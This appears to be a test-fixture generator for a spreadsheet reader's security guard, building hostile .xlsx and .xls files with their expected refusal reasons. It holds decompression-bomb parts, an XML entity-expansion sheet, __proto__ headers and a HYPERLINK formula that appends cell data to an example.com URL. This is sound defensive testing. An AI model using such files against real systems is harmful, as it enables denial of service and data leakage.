import { writeXlsx } from 'hucre/xlsx'
import type { RefusalReason } from '../../src/platform/xlsx/guard/refusal.ts'
import { compoundFile, oldWorkbook } from './old-workbook.ts'
import {
  entry,
  type RawEntry,
  rawPackage,
  sheetOpening,
  swollenEntry,
  workbookParts,
} from './raw-package.ts'

/** A workbook made to hurt, or to look like it, and what reading it has to answer. */
export type HostileWorkbook = {
  name: string
  fileName: string
  make(): Buffer | Promise<Buffer>
  expected: RefusalReason | 'read'
}

const mega = 1024 * 1024
const closing = '</sheetData></worksheet>'
const smallSheet = `${sheetOpening}<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Estación</t></is></c></row>${closing}`

/** Every one of them, generated; `bombMb` is what the bombs inflate to. */
export function hostileWorkbooks({ bombMb = 2200 } = {}): HostileWorkbook[] {
  return [...bombs(bombMb), ...strangeSheets(), ...notWorkbooks(), ...oldOnes()]
}

function bombs(bombMb: number): HostileWorkbook[] {
  const rows = '<row><c><v>1</v></c></row>'.repeat(Math.floor(mega / 26))
  const sheetBomb = swollenEntry('xl/worksheets/sheet1.xml', {
    before: `${sheetOpening}<sheetData>`,
    unit: rows,
    times: bombMb,
    after: closing,
  })
  const textBomb = swollenEntry('xl/sharedStrings.xml', {
    before: '<sst><si><t>',
    unit: 'A'.repeat(mega),
    times: bombMb,
    after: '</t></si></sst>',
  })
  const mine = (name: string, make: () => RawEntry[]): HostileWorkbook => ({
    name,
    fileName: 'plan.xlsx',
    make: () => rawPackage(make()),
    expected: 'too-large',
  })
  return [
    mine('a sheet that inflates to gigabytes', () => workbookParts(sheetBomb)),
    mine('one shared string of gigabytes', () => [...workbookParts(smallSheet), textBomb]),
    mine('more shared strings than the reader can hold', () => [
      ...workbookParts(smallSheet),
      entry('xl/sharedStrings.xml', `<sst>${'<si><t>x</t></si>'.repeat(300_001)}</sst>`),
    ]),
    mine('a part that nobody refers to', () => [
      ...workbookParts(smallSheet),
      { ...sheetBomb, name: 'xl/media/image1.png' },
    ]),
    mine('many parts, each of them modest', () => [
      ...workbookParts(smallSheet),
      ...Array.from({ length: 400 }, (_, index) =>
        swollenEntry(`xl/media/image${index}.bin`, {
          before: '',
          unit: 'A'.repeat(mega),
          times: 3,
          after: '',
        }),
      ),
    ]),
    mine('more parts than any workbook has', () => [
      ...workbookParts(smallSheet),
      ...Array.from({ length: 2_500 }, (_, index) => entry(`xl/a${index}.xml`, '<a/>')),
    ]),
    {
      ...mine('a size that is a lie', () => workbookParts({ ...sheetBomb, claims: 4096 })),
      expected: 'damaged',
    },
    {
      ...mine('a size that is not reached', () =>
        workbookParts({ ...entry('xl/worksheets/sheet1.xml', smallSheet), claims: mega }),
      ),
      expected: 'damaged',
    },
  ]
}

function strangeSheets(): HostileWorkbook[] {
  const sheet = (
    name: string,
    xml: string,
    expected: HostileWorkbook['expected'] = 'read',
  ): HostileWorkbook => ({
    name,
    fileName: 'plan.xlsx',
    make: () => rawPackage(workbookParts(xml)),
    expected,
  })
  const text = (address: string, value: string): string =>
    `<c r="${address}" t="inlineStr"><is><t>${value}</t></is></c>`
  const header = `<row r="1">${text('A1', 'Estación')}</row>`
  const emptyRows = (): string => {
    const rows: string[] = []
    for (let row = 2; row <= 1_000_000; row++) rows.push(`<row r="${row}" spans="1:16" ht="15"/>`)
    return rows.join('')
  }
  return [
    sheet(
      'a cell at XFD1048576',
      `${sheetOpening}<sheetData>${header}<row r="1048576">${text('XFD1048576', 'x')}</row>${closing}`,
    ),
    sheet(
      'a cell outside the sheet',
      `${sheetOpening}<sheetData><row r="99999999">${text('A99999999', 'x')}</row>${closing}`,
      'too-many-cells',
    ),
    sheet(
      'a dimension that is a lie',
      `${sheetOpening}<dimension ref="A1:XFD1048576"/><sheetData>${header}${closing}`,
    ),
    {
      ...sheet('1 million empty rows', ''),
      make: () =>
        rawPackage(workbookParts(`${sheetOpening}<sheetData>${header}${emptyRows()}${closing}`)),
    },
    sheet(
      'headers named __proto__ and constructor',
      `${sheetOpening}<sheetData><row r="1">${text('A1', '__proto__')}${text('B1', 'constructor')}${text('C1', 'toString')}</row><row r="2">${text('A2', 'x')}${text('B2', 'y')}${text('C2', 'z')}</row>${closing}`,
    ),
    sheet(
      'formulas, with and without a kept value',
      `${sheetOpening}<sheetData>${header}<row r="2"><c r="A2"><f>1+1</f><v>2</v></c><c r="B2"><f>HYPERLINK("http://example.com/?"&amp;A1)</f></c><c r="C2" t="e"><f>1/0</f><v>#DIV/0!</v></c></row>${closing}`,
    ),
    sheet(
      'entities that multiply',
      `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>${sheetOpening.slice(38)}<sheetData><row r="1">${text('A1', '&c;')}</row>${closing}`,
    ),
    {
      ...sheet('two parts of one name', '', 'damaged'),
      make: () =>
        rawPackage([...workbookParts(smallSheet), entry('XL/worksheets/sheet1.xml', smallSheet)]),
    },
    {
      ...sheet('two sheets of one name', '', 'damaged'),
      make: () => rawPackage(workbookParts(smallSheet, ['Plan', 'PLAN'])),
    },
    {
      ...sheet('cut off in the middle', '', 'damaged'),
      make: () => {
        const whole = rawPackage(workbookParts(smallSheet))
        return whole.subarray(0, Math.floor(whole.length * 0.6))
      },
    },
    {
      ...sheet('a sheet that is missing', '', 'damaged'),
      make: () => rawPackage(workbookParts(smallSheet).slice(0, -1)),
    },
    {
      ...sheet('locked with a password', '', 'password'),
      make: async () =>
        Buffer.from(
          await writeXlsx({
            sheets: [{ name: 'Plan', rows: [['Estación']] }],
            encryption: { password: 'secreto', spinCount: 1000 },
          }),
        ),
    },
  ]
}

function notWorkbooks(): HostileWorkbook[] {
  const file = (name: string, fileName: string, make: () => Buffer): HostileWorkbook => ({
    name,
    fileName,
    make,
    expected: 'not-a-workbook',
  })
  return [
    file('a web page called .xls', 'plan.xls', () =>
      Buffer.from('<html><body><table><tr><td>Estación</td></tr></table></body></html>'),
    ),
    file('text called .xlsx', 'plan.xlsx', () => Buffer.from('Estación;Fecha\nPM-1;2026-01-01\n')),
    file('a PDF called .xlsx', 'plan.xlsx', () => Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n')),
    file('noise', 'plan.xlsx', () => Buffer.from('\x00\x01\x02\x03'.repeat(5000), 'latin1')),
    file('nothing at all', 'plan.xlsx', () => Buffer.alloc(0)),
    file('a zip of something else', 'plan.xlsx', () => rawPackage([entry('leeme.txt', 'hola')])),
    file('another compound file', 'plan.xls', () =>
      compoundFile('WordDocument', Buffer.alloc(5000)),
    ),
  ]
}

function oldOnes(): HostileWorkbook[] {
  const old = (
    name: string,
    make: () => Buffer,
    expected: HostileWorkbook['expected'],
  ): HostileWorkbook => ({ name, fileName: 'plan.xls', make, expected })
  const rows = [
    ['Estación', 'Fecha'],
    ['PM-1', { date: 46068 }],
  ]
  const whole = (): Buffer => oldWorkbook([{ name: 'Plan', rows }])
  return [
    old('an .xls called .xlsx', whole, 'read'),
    old('an .xls cut off', () => whole().subarray(0, 3000), 'damaged'),
    old(
      'an .xls whose directory turns in a circle',
      () => {
        const bytes = whole()
        // The directory stands in the eighth sector; here it is its own successor.
        bytes.writeUInt32LE(8, bytes.length - 512 + 8 * 4)
        return bytes
      },
      'damaged',
    ),
    old(
      'an .xls with a password',
      () => oldWorkbook([{ name: 'Plan', rows }], { filePass: true }),
      'password',
    ),
    old('Excel 5', () => oldWorkbook([{ name: 'Plan', rows }], { version: 0x500 }), 'old-format'),
    old('Excel 4', () => Buffer.from('0904060000001000', 'hex'), 'old-format'),
    old(
      'the XML of Excel 2003',
      () =>
        Buffer.from(
          '<?xml version="1.0"?>\n<?mso-application progid="Excel.Sheet"?>\n<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>',
        ),
      'old-format',
    ),
  ]
}
